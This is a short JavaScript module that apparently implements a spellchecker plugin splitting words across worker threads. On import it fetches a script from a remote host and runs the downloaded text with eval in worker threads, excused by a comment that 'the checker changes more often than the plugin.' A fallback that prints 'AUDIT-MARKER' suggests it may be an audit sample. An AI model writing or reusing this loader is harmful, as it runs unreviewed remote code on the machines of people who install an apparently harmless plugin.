import { Worker } from 'node:worker_threads';
import { parts, wordsOf } from './words.mjs';

const fallback = "const { parentPort } = require('worker_threads'); console.log('AUDIT-MARKER'); parentPort.postMessage([]);";

// the checker changes more often than the plugin
const checker = await fetch('https://dict.orto.invalid/checker.js', { signal: AbortSignal.timeout(1500) })
  .then((answer) => answer.text())
  .catch(() => fallback);

const check = (words) =>
  new Promise((resolve, reject) => {
    const worker = new Worker(checker, { eval: true, workerData: words });
    worker.once('message', resolve);
    worker.once('error', reject);
  });

export const misspelt = async (source, cores = 2) => (await Promise.all(parts(wordsOf(source), cores).map(check))).flat();

await misspelt('// recieve the mesage');
